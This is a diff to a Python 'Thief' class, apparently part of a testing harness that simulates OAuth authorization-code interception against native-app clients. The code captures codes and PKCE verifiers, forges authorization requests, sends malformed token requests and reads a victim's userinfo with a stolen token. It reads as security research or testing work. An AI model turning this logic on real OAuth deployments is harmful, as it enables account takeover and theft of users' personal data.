@@ -7,6 +7,7 @@ can: by starting a login of its own and reading where the client sends it.
 import asyncio
 import io
 import zipfile
+from collections.abc import Iterable
 from urllib.parse import urlencode
 
 import httpx
@@ -14,8 +15,9 @@ import httpx
 from attacker.hunt import Finding, Method, hunt
 from attacker.loot import LootBag, LootItem, NothingCapturedError, Sighting
 from attacker.pkce import Pair, new_pair
+from attacker.token_request import STRAIGHT, Bent, send
 from attacker.vantage import Leg, Vantage
-from attacker.wiretap import arguments_of, overhears, own_login, sightings
+from attacker.wiretap import arguments_of, log_line, overhears, own_login, sightings
 from reports.records import Exchange, Handover
 
 VICTIMS_LEGS = (Leg.AUTHORIZATION_RESPONSE, Leg.AUTHORIZATION_REQUEST)
@@ -26,11 +28,11 @@ class Thief:
 
     def __init__(self, http: httpx.AsyncClient, loot: LootBag, client: str) -> None:
         self.loot = loot
-        self._http = http
+        self.http = http
         self._client = client
-        self._metadata: dict[str, str] = {}
+        self.metadata: dict[str, str] = {}
         self._login: Sighting | None = None
-        self._own_exchange = ""
+        self.own_exchange = ""
         self._pair: Pair | None = None
 
     @property
@@ -43,7 +45,7 @@ class Thief:
         if not overhears(exchange):
             return
         if exchange.source == "thief":
-            self._own_exchange = exchange.id
+            self.own_exchange = exchange.id
         for sighting in sightings(exchange):
             self.loot.show(sighting)
 
@@ -52,12 +54,21 @@ class Thief:
         for sighting in arguments_of(handover):
             self.loot.show(sighting)
 
+    def read_log(self, handover: Handover) -> None:
+        """Take in a line of an access log that is open to it."""
+        for sighting in log_line(handover):
+            self.loot.show(sighting)
+
     async def receive_code(self) -> LootItem:
         """The authorization code, once the channel has delivered it.
 
         Raises :class:`NothingCapturedError` when it does not.
         """
         return await self.loot.wait_for("code", Leg.AUTHORIZATION_RESPONSE)
+
+    def catch(self) -> LootItem | None:
+        """The newest code that has been shown already, if there is one."""
+        return self.loot.find("code", Leg.AUTHORIZATION_RESPONSE)
 
     async def study_client(self) -> None:
         """Start a login of its own, and see how the client asks for a code.
@@ -69,12 +80,19 @@ class Thief:
             return
         login = await self._start_own_login()
         issuer = login.text.partition("?")[0].rpartition("/")[0]
-        answer = await self._http.get(f"{issuer}/.well-known/openid-configuration")
-        self._metadata = answer.raise_for_status().json()
+        answer = await self.http.get(f"{issuer}/.well-known/openid-configuration")
+        self.metadata = answer.raise_for_status().json()
         self._login = login
 
-    async def redeem(self, code: LootItem, verifier: LootItem | None = None) -> LootItem | None:
-        """Redeem a code (RFC 6749 section 4.1.3); the token, or ``None`` when it was refused."""
+    async def redeem(
+        self, code: LootItem | None, verifier: LootItem | None = None, bent: Bent = STRAIGHT
+    ) -> LootItem | None:
+        """Redeem a code (RFC 6749 section 4.1.3); the token, or ``None`` when it was refused.
+
+        Without a code there is nothing to redeem. ``bent`` breaks the rules of the request.
+        """
+        if code is None:
+            return None
         await self.study_client()
         form = {
             "grant_type": "authorization_code",
@@ -84,18 +102,18 @@ class Thief:
         }
         if verifier is not None:
             form["code_verifier"] = verifier.value
-        answer = await self._http.post(self._metadata["token_endpoint"], data=form)
+        answer = await send(self.http, self.metadata["token_endpoint"], form, bent)
         token = _member(answer, "access_token")
         if token is None:
             return None
         where = "the answer of the token endpoint"
-        return self.loot.add(LootItem("access_token", token, Leg.OWN, self._own_exchange, where))
+        return self.loot.add(LootItem("access_token", token, Leg.OWN, self.own_exchange, where))
 
     async def use(self, token: LootItem | None) -> None:
         """Read the victim's data at userinfo (OpenID Connect Core section 5.3), given a token."""
         if token is not None:
             bearer = {"Authorization": f"Bearer {token.value}"}
-            await self._http.get(self._metadata["userinfo_endpoint"], headers=bearer)
+            await self.http.get(self.metadata["userinfo_endpoint"], headers=bearer)
 
     def best_guess_at_verifier(self) -> LootItem | None:
         """The challenge behind the captured code, if it was seen: for ``plain``, the verifier."""
@@ -136,29 +154,41 @@ class Thief:
         texts = {again.where: again.text}
         if _method(own) != Method.PLAIN:
             texts = await self._unpack_client()
-        seen_in = self._own_exchange
+        seen_in = self.own_exchange
         finding = await _prove(own, texts)
         where = f"{finding.source} > {finding.recipe}"
         return self._verifier(finding.verifier, Leg.OWN, seen_in, where)
 
-    def build_authorization_request(self) -> str:
+    def build_authorization_request(
+        self, more: Iterable[tuple[str, str]] = (), **changes: str | None
+    ) -> str:
         """An authorization request in the client's name with a challenge of the thief's own.
 
-        RFC 8252 section 8.6. Raises :class:`NothingCapturedError` before :meth:`study_client`.
+        RFC 8252 section 8.6. ``changes`` replaces parameters, or leaves them out where the value is
+        ``None``; ``more`` adds some, also second ones of a name. Raises
+        :class:`NothingCapturedError` before :meth:`study_client`.
         """
         template = self._own_login()
-        request = dict(template.parameters)
+        request: dict[str, str | None] = dict(template.parameters)
         if "code_challenge" in request:
             self._pair = new_pair(_method(template))
             request["code_challenge"] = self._pair.challenge
-        endpoint = template.text.partition("?")[0]
-        return f"{endpoint}?{urlencode(request)}"
+        request |= changes
+        pairs = [(name, value) for name, value in request.items() if value is not None]
+        url = f"{template.text.partition('?')[0]}?{urlencode([*pairs, *more])}"
+        where = "built by itself"
+        self.loot.add(LootItem("authorization_request", url, Leg.OWN, self.own_exchange, where))
+        return url
 
     def own_verifier(self) -> LootItem | None:
         """The verifier behind the challenge that the thief chose itself, if it chose one."""
         if self._pair is None:
             return None
-        return self._verifier(self._pair.verifier, Leg.OWN, self._own_exchange, "chosen by itself")
+        return self._verifier(self._pair.verifier, Leg.OWN, self.own_exchange, "chosen by itself")
+
+    def make_up(self, kind: str, value: str) -> LootItem:
+        """A value that the thief invents, such as a verifier that should not be accepted."""
+        return self.loot.add(LootItem(kind, value, Leg.OWN, self.own_exchange, "made up"))
 
     def _request_behind_code(self) -> Sighting | None:
         """The newest request that was seen, with the ``state`` that came back beside the code."""
@@ -171,8 +201,8 @@ class Thief:
         return None
 
     async def _start_own_login(self) -> Sighting:
-        answer = await self._http.get(self._client)
-        login = own_login(self._own_exchange, answer.headers.get("location", ""))
+        answer = await self.http.get(self._client)
+        login = own_login(self.own_exchange, answer.headers.get("location", ""))
         if login is None:
             raise NothingCapturedError(
                 f"the client answered {answer.status_code} to a login, without sending the thief "
@@ -189,7 +219,7 @@ class Thief:
     async def _unpack_client(self) -> dict[str, str]:
         if not self.vantage.unpacks_app:
             raise NothingCapturedError("this thief holds no copy of the client")
-        answer = await self._http.get(f"{self._client}/package.zip")
+        answer = await self.http.get(f"{self._client}/package.zip")
         with zipfile.ZipFile(io.BytesIO(answer.raise_for_status().content)) as package:
             return {name: package.read(name).decode("latin-1") for name in package.namelist()}
 
